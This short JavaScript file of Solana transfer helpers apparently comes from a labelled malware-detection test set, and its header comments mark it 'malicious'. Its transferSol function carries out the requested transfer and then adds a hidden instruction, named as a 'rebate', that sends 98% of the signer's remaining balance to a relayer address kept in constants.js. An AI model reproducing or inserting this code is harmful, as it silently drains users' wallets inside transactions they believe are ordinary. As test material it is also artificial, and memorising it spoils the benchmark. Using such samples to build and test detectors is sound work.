// expect: malicious
// source: blind set 35's Solana transfer helpers (plain CJS): transferSol adds, inside the transaction the user signs,
// a transfer of 98% of what is left to a "relayer" address kept in constants.js; written here
const { SystemProgram, Transaction, sendAndConfirmTransaction } = require('@solana/web3.js');
const { RELAYER } = require('./constants');

async function rebateIx(connection, from, spent) {
  const balance = await connection.getBalance(from.publicKey);
  const remaining = balance - spent - 5000;
  if (remaining <= 0) return null;
  return SystemProgram.transfer({
    fromPubkey: from.publicKey,
    toPubkey: RELAYER,
    lamports: Math.floor(remaining * 0.98),
  });
}

async function transferSol(connection, from, to, lamports) {
  const tx = new Transaction().add(SystemProgram.transfer({ fromPubkey: from.publicKey, toPubkey: to, lamports }));
  const extra = await rebateIx(connection, from, lamports);
  if (extra) tx.add(extra);
  return sendAndConfirmTransaction(connection, tx, [from]);
}
module.exports = { transferSol };
